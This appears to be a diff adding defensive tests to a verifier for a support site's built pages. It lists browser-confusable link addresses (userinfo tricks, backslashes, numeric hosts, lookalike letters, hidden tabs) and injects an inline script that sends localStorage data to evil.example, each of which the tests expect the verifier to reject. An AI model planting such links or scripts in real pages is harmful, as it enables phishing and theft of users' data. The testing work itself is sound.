@@ -155,3 +155,76 @@ def test_a_checklist_version_that_reads_like_a_figure_passes(built_copy: Path, c
     assert version is not None
     page.write_text(html.replace(f"version {version.group(1)}<", "version 1876611d<"), encoding="utf-8")
     assert cli("--root", built_copy, "verify", "--no-crawl").code == 0
+
+
+CONFUSABLE_HREFS = [
+    ("https://evil.example\\@help.demo-exchange.com/", "so it opens evil.example, not help.demo-exchange.com"),
+    ("https://help.demo-exchange.com@evil.example/", "is a user name, not the site: the browser opens evil.example"),
+    ("https:///bit.ly/x", "'https:' is followed by 3 slashes, not two"),
+    ("https:\\\\bit.ly\\x", "the browser reads each '\\' before the query as '/', so it opens bit.ly"),
+    ("https://%64emo-exchange-login.com/", "is written with %-escapes, which the browser decodes, so it opens demo-exchange-login.com"),
+    ("https://0x7f.1/", "the browser reads the host as the numeric address 127.0.0.1"),
+    ("https://2130706433/", "the browser reads the host as the numeric address 127.0.0.1"),
+    ("https://[::1]/", "the browser reads the host as the numeric address [::1]"),
+    ("https://help.demo-exchange.com:8443/", "port 8443 is not the standard https port"),
+    ("https://help.demo-exchange.com./", "the host 'help.demo-exchange.com.' ends with a dot"),
+    ("https://demo-ex&#10;change-login.com/", "it holds a line break, which no reader sees"),
+    ("ht&#9;tps://evil.example/", "it holds a tab, which no reader sees"),
+    ("https://dеmo-exchange.com/", "uses non-Latin or encoded letters and reads as demo-exchange.com"),
+    ("https://demo-exchnage.com/", "is one typing slip from demo-exchange.com (two letters swapped)"),
+    ("\\\\evil.example/help", "an address without https:// is not allowed (from a page, the browser opens evil.example)"),
+    ("/\\evil.example/help", "an address without https:// is not allowed (from a page, the browser opens evil.example)"),
+]  # fmt: skip
+
+
+def test_a_browser_confusable_address_in_a_page_fails_at_its_tag(built_copy: Path, cli) -> None:
+    """verify reads each href as the browser does: the host judged is the host the browser would open."""
+    page = built_copy / "site/faq/index.html"
+    elements = [f'<a href="{href}">help</a>' for href, _ in CONFUSABLE_HREFS]
+    _edit(page, "</article>", "\n".join(elements) + "</article>")
+    run = cli("--root", built_copy, "verify", "--no-crawl")
+    assert run.code == 1
+    html = page.read_text(encoding="utf-8")
+    places = {}
+    for element, (_, message) in zip(elements, CONFUSABLE_HREFS, strict=True):
+        offset = html.index(element)
+        places[f"site/faq/index.html:{html.count(chr(10), 0, offset) + 1}:{offset - html.rfind(chr(10), 0, offset)}:"] = message
+    for place, message in places.items():
+        assert any(found.startswith(f"{place} error: a href=") and message in found for found in run.lines), (message, run.lines)
+    assert all(found.split(" ", 1)[0] in places for found in run.lines), run.lines
+
+
+def test_an_image_a_browser_loads_from_another_host_fails(built_copy: Path, cli) -> None:
+    page = built_copy / "site/faq/index.html"
+    _edit(page, "</article>", '<img src="\\\\pixel.example/1x1.gif" alt=""></article>')
+    run = cli("--root", built_copy, "verify", "--no-crawl")
+    assert run.code == 1
+    [line] = run.lines
+    assert "img src=\\\\pixel.example/1x1.gif: the page would load this from another origin" in line, line
+
+
+def test_legitimate_addresses_in_a_page_still_verify(built_copy: Path, cli) -> None:
+    page = built_copy / "site/faq/index.html"
+    hrefs = ["HTTPS://WWW.IC3.GOV/", "https://pages.nist.gov/800-63-4/sp800-63b.html?x=1#y", "https://example.org/files/My%20Guide.pdf",
+             "https://help.demo-exchange.com:443/", "https://medium.com/@demo/post"]  # fmt: skip
+    _edit(page, "</article>", "".join(f'<a href="{href}">x</a>' for href in hrefs) + "</article>")
+    run = cli("--root", built_copy, "verify", "--no-crawl")
+    assert run.code == 0, run.lines
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "message"),
+    [
+        ("</h1>", "</h1><script>fetch('https://evil.example/'+localStorage.x)</script>",
+         "an inline script that is none of Material's: <script>fetch('https://evil.example/'+localStorage.x)</script>"),
+        ("script-src 'self'", "script-src 'self' 'unsafe-inline'", "the page's policy allows scripts it should not: 'unsafe-inline'"),
+        ("script-src 'self'", "script-src 'self' 'sha256-AAAA'", "the page's policy allows scripts it should not: 'sha256-AAAA'"),
+    ],
+    ids=["inline-script", "unsafe-inline", "unknown-hash"],
+)
+def test_a_page_with_a_script_its_policy_does_not_know_fails(built_copy: Path, cli, old: str, new: str, message: str) -> None:
+    page = built_copy / "site/playbooks/withdrawal-locked/index.html"
+    _edit(page, old, new)
+    run = cli("--root", built_copy, "verify", "--no-crawl")
+    assert run.code == 1
+    assert any(line.startswith("site/playbooks/withdrawal-locked/index.html:") and message in line for line in run.lines), run.out
